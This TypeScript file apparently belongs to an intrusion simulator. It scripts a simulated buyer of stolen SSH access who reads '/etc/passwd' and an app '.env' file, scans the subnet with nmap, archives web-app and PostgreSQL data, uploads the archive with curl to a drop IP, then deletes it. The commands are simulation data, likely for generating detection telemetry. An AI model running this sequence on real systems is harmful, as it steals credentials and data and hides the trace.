import type { Attempt } from '../entry/enter.ts'
import { byKey } from '../entry/ssh-key.ts'
import type { Gang, Hands } from '../gangs/gang.ts'
import type { Host } from '../host/host.ts'
import { TcpConnection } from '../network/tcp.ts'
import { changeCipherSpec, clientHello, sealedRecords, serverHello } from '../network/tls-bytes.ts'
import type { Random } from '../random.ts'
import { type Act, HOUR_MS, SECOND_MS } from '../schedule.ts'
import { type TrueSale, truthTime } from '../truth.ts'

const DELIVERED_AFTER_MS = { from: HOUR_MS, to: 8 * HOUR_MS }
const HTTPS_PORT = 443
const CHUNK_BYTES = 15_000

/** Whoever bought the gang's access comes from somewhere else, with tools that miners do not need, and takes data with them. */
export function* buyerComes(
  host: Host,
  gang: Gang,
  places: { readonly srcIp: string; readonly dropIp: string },
  random: Random,
  sold: (sale: TrueSale) => void,
): Act {
  const { machine } = host
  yield machine.nowMs + random.between(DELIVERED_AFTER_MS.from, DELIVERED_AFTER_MS.to)
  const { key } = gang.traits
  if (key === null || !host.keys.has(gang)) return
  const attempt: Attempt = {
    host,
    gang,
    random,
    srcIp: places.srcIp,
    admitted: () => {
      sold({
        seller: gang.id,
        machine: machine.facts.name,
        srcIp: places.srcIp,
        time: truthTime(machine.nowMs),
      })
    },
    inside: (hands) => looksForData(host, hands, places.dropIp, random),
  }
  yield* byKey(attempt, key.fingerprint, random.between(30, 160))
}

function* looksForData(host: Host, hands: Hands, dropIp: string, random: Random): Act {
  const { machine } = host
  const looks: readonly (readonly [string, ...string[]])[] = [
    ['whoami'],
    ['ip', 'addr'],
    ['cat', '/etc/passwd'],
    ['find', '/', '-name', '*.sql', '-size', '+1M'],
    ['ss', '-tnp'],
    ['nmap', '-sT', '-p', '22,445,3389,5432', `${machine.facts.gateway}/24`],
    ['cat', '/var/www/app/.env'],
  ]
  for (const look of looks) {
    if (!random.chance(0.7)) continue
    yield* hands.run(look, { replyBytes: random.integer(20, 900) })
    yield machine.nowMs + random.between(2, 40) * SECOND_MS
  }
  const archive = `/tmp/.${random.text(6, 'abcdefghijklmnopqrstuvwxyz')}.tgz`
  yield* hands.run(['tar', 'czf', archive, '/var/www/app', '/var/lib/postgresql'])
  const curl = yield* hands.run(['curl', '-s', '-k', '-T', archive, `https://${dropIp}/u/`])
  machine.calls.connected(curl, dropIp, HTTPS_PORT, true)
  yield* upload(host, dropIp, random)
  yield* hands.run(['rm', '-f', archive])
  yield* hands.leave()
}

function* upload(host: Host, dropIp: string, random: Random): Act {
  const { machine } = host
  const local = { ip: machine.facts.address, port: machine.nextPort() }
  const remote = { ip: dropIp, port: HTTPS_PORT }
  const tcp = new TcpConnection(
    machine.tap,
    { local, remote, opener: 'local', rttMs: random.between(30, 120) },
    random,
  )
  yield tcp.open(machine.nowMs)
  yield tcp.send('local', clientHello(dropIp, random), machine.nowMs)
  yield tcp.send('remote', serverHello(random, 900), machine.nowMs)
  yield tcp.send('local', changeCipherSpec(), machine.nowMs)
  for (let i = random.integer(20, 90); i > 0; i--)
    yield tcp.send('local', sealedRecords(CHUNK_BYTES, random), machine.nowMs)
  yield tcp.send('remote', sealedRecords(180, random), machine.nowMs)
  yield tcp.close('local', machine.nowMs)
}
